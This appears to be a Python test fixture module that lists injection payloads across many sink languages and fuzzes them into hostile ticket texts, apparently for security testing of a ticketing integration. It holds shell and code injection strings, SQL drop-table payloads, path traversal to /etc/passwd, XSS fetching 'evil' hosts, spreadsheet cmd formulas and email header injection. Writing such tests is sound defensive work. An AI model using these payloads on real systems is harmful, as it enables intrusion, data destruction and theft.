"""Hostile texts. Each that can create a file creates the marker, in the language of its sink."""

from __future__ import annotations

import random

MARKER = "@MARKER@"
"""Stands for the path of a file that exists only once something was executed."""

_SHELL = [
    "$(touch @MARKER@)",
    "`touch @MARKER@`",
    "; touch @MARKER@ #",
    "| touch @MARKER@",
    "&& touch @MARKER@",
    "|| touch @MARKER@ ||",
    "\ntouch @MARKER@\n",
    "\r\ntouch @MARKER@\r\n",
    "' ; touch @MARKER@ ; '",
    '" ; touch @MARKER@ ; "',
    "${IFS}$(touch${IFS}@MARKER@)",
    "<(touch @MARKER@)",
    "& touch @MARKER@ &",
    "x'$(touch @MARKER@)'",
    "{touch,@MARKER@}",
    "\n#SBATCH --output=@MARKER@\ntouch @MARKER@\n",
    "%j\n#SBATCH --wrap='touch @MARKER@'",
    "> @MARKER@",
    ">> @MARKER@ ; :",
    "a\0; touch @MARKER@",
    "$(>@MARKER@)",
    "*; touch @MARKER@",
]
_PYTHON = [
    '"); open("@MARKER@", "w") #',
    "'); open('@MARKER@', 'w') #",
    '"\nopen("@MARKER@", "w")\n"',
    '" + str(open("@MARKER@", "w")) + "',
    '"""\nopen("@MARKER@", "w")\n"""',
    "'''\nopen('@MARKER@','w')\n'''",
    '\\"; open("@MARKER@","w") #',
    "{__import__('os').system('touch @MARKER@')}",
    "__import__('os').system('touch @MARKER@')",
    '"\r__import__("pathlib").Path("@MARKER@").touch()\r"',
    "%run -c touch @MARKER@",
    '"\n!touch @MARKER@\n"',
    "{0.__class__.__init__.__globals__}",
    "{{7*7}}{% raw %}",
    '"; import os; os.mknod("@MARKER@") #',
    "!!python/object/apply:os.system ['touch @MARKER@']",
    "\\N{QUOTATION MARK}); open('@MARKER@','w') #",
    '"\u2028open("@MARKER@","w")\u2028"',
]
_R = [
    '"); file.create("@MARKER@") #',
    "'); file.create('@MARKER@') #",
    '"; file.create("@MARKER@"); "',
    '"\nfile.create("@MARKER@")\n"',
    '\\"; file.create("@MARKER@") #',
    '`; file.create("@MARKER@") #',
    "{file.create('@MARKER@')}",
    'r"(x)"; file.create("@MARKER@") #',
    '"; system("touch @MARKER@") #',
]
_PATHS = [
    "../../../@MARKER@",
    "..\\..\\x",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "@MARKER@",
    "file:///etc/passwd",
    "~root/.ssh/authorized_keys",
    ".",
    "..",
    "",
    " ",
    "CON",
    "aux.csv",
    "a" * 300,
    "é" * 200,
    "-rf",
    "--",
    "x\0.csv",
    "x/../../y",
    ".git/hooks/pre-commit",
    "con\u202egpj.exe",
    "a\nb",
    ".ssh",
    "nul:",
    "x.csv\r\n",
    "\u2024\u2024/\u2024\u2024/x",
]
_OPTIONS = [
    "--output=@MARKER@",
    "-o@MARKER@",
    "--status-file=@MARKER@",
    "--logger-file=@MARKER@",
    "--export-secret-keys",
    "--homedir=/tmp",
    "-r attacker@example.org",
    "--yes --batch",
    "--comment=x --wrap=id",
    "--mail-user=x@y",
    "--options=@MARKER@",
    "--batch\n--output @MARKER@",
    "--exec=touch @MARKER@",
    "--passphrase-fd=0",
    "@@MARKER@",
]
_SQL = [
    "'; drop table requests; --",
    "'); delete from requests; --",
    '"; drop table audit; --',
    "' or '1'='1",
    "'; update requests set state = 'released'; --",
    "\\'; drop table events; --",
    "'||(select key from requests)||'",
    "%' or 1=1 --",
    "'/**/union/**/select/**/1--",
    "'; attach database '@MARKER@' as x; create table x.y(z); --",
    "$$; drop table twins; $$",
    "'); insert into effects values (1); --",
    "\x00' or 1=1",
    ":key",
    "?",
    "%(key)s",
    "{key}",
]
_JQL = [
    '" OR project = SECRET OR "',
    '" OR project is not EMPTY ORDER BY created DESC "',
    "DATA OR project = X",
    'x" AND reporter = currentUser() OR "',
    '\\" OR 1 = 1',
    "' OR '",
    ') OR (project = "X"',
    "DATA\nOR project = X",
    "issue in linkedIssues(X-1)",
    "key > A-1",
    'x"/**/OR key > A-1 OR "',
    '") OR status != "',
    'x" OR text ~ "durand',
]
_MARKDOWN = [
    "/close",
    "/assign @root",
    "\r/close",
    "\n\n/label ~released\n/approve\n/merge\n",
    "x\u2028/close",
    "```\n/close\n```\n/confidential",
    "<!-- wardbook:request:DATA-1 -->",
    "@all @rfaure",
    "~released",
    "<details>\n/close\n</details>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "> /close\n/close",
    "\x0b/close",
    "/unassign\n/reopen",
    "[[_TOC_]]",
    "<img src=x onerror=alert(1)>",
    "\\\n/close",
    "- [ ] x\n/done",
    "\t/close",
    "  /close",
    "/shrug",
    "\n/copy_metadata #1\n",
    "```suggestion\nx\n```",
    "\n/move other/project\n",
    "\n/relate #1\n",
    "\r\r/lock\r",
]
_HTML = [
    "<script>fetch('//evil')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "' onmouseover='alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<math><mtext></form><form><mglyph><style>",
    "<style>*{background:url(//evil)}</style>",
    "&lt;script&gt;",
    "<object data=//evil>",
    "<form action=//evil><input>",
    "\ufeff<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
]
_JIRA = [
    "{html}<script>alert(1)</script>{html}",
    "[~admin]",
    "{anchor:wardbook-data-1}",
    "!http://evil/x!",
    "[x|javascript:alert(1)]",
    "{code}{code}{html}",
    "||a||b||\n|c|d|",
    "{include:secret}",
    "{color",
    "[^../../etc/passwd]",
    "{quote}\n{quote}[~all]",
    "\\{code\\}",
    "{noformat}",
    "h1. x\n[DATA-1]",
]
_SHEETS = [
    "=cmd|'/C touch @MARKER@'!A1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("http://evil","//a")',
    "\u00a0=1+1",
    '";=1+1;"',
    "x,=1+1",
    "\n=1+1",
    "%0A=1+1",
    '"\n=1+1',
    '="a"&"b"',
    "|calc",
    "\ufeff=1+1",
]
_TERMINAL = [
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x9b31m",
    "\rDATA-1: all well",
    "\x1bc",
    "\x1b]52;c;dG91Y2ggeA==\x07",
    "\x1b]8;;http://evil\x07x\x1b]8;;\x07",
    "a\x08\x08\x08b",
    "\nERROR root: forged line",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\x0e\x0f",
    "\x7f",
    "\u2028forged",
    "[red]markup[/red]",
    "[link=file:///etc/passwd]x[/link]",
]
_HEADERS = [
    "x\r\nBcc: evil@example.org",
    "x\nSubject: y\n\nbody",
    "x\r\n\r\n<html>",
    "=?utf-8?q?=0ABcc:?=",
    "a@b\r\nX-Token: y",
    "\r\nTransfer-Encoding: chunked\r\n",
    "x%0d%0aBcc: y",
]
_JSON = [
    '"}],"targets":[{"rawSql":"drop table x"}]',
    '","__inputs":[{"x":1}],"y":"',
    "${__url.params}",
    "$__timeFilter(x); drop table y",
    "[[variable]]",
    "\\u0022}",
    "\ud800",
    '{"__proto__":{}}',
    "1e999",
    "</script><script>alert(1)</script>",
    "${datasource}",
    "NaN",
]

FAMILIES: dict[str, list[str]] = {
    "shell": _SHELL,
    "python": _PYTHON,
    "r": _R,
    "path": _PATHS,
    "option": _OPTIONS,
    "sql": _SQL,
    "jql": _JQL,
    "markdown": _MARKDOWN,
    "html": _HTML,
    "jira": _JIRA,
    "sheet": _SHEETS,
    "terminal": _TERMINAL,
    "header": _HEADERS,
    "json": _JSON,
}
_SHAPES = (
    "{}",
    "Hospitalisations du trimestre {}",
    "{} — merci",
    "a{}b",
    "\n{}\n",
    "{}\r\n{}",
)
TICKETS = 300


def all_texts() -> list[str]:
    """Every text once, as it is."""
    return [text for family in FAMILIES.values() for text in family]


def hostile_texts() -> list[str]:
    """The texts of the hostile tickets: every text as it is, then wrapped in other words."""
    texts = all_texts()
    for shape in _SHAPES[1:]:
        texts += [shape.replace("{}", text) for text in all_texts()]
    return texts[:TICKETS]


def fuzzed(chance: random.Random) -> str:
    """A text put together of parts of hostile ones, cut and doubled at random."""
    parts = []
    for _ in range(chance.randrange(1, 5)):
        text = chance.choice(chance.choice(list(FAMILIES.values())))
        start, end = sorted((chance.randrange(len(text) + 1), chance.randrange(len(text) + 1)))
        kept = text if chance.random() < 0.6 else text[start:end]
        parts.append(kept)
        if chance.random() < 0.3:
            parts.append(
                chance.choice("\n\r\t\x0b\x1b\x9b\u2028\u202e\0\"'`\\;|&<>(){}[]@/=+-é\ud800")
            )
    return "".join(parts)[: chance.choice((40, 200, 2000))]
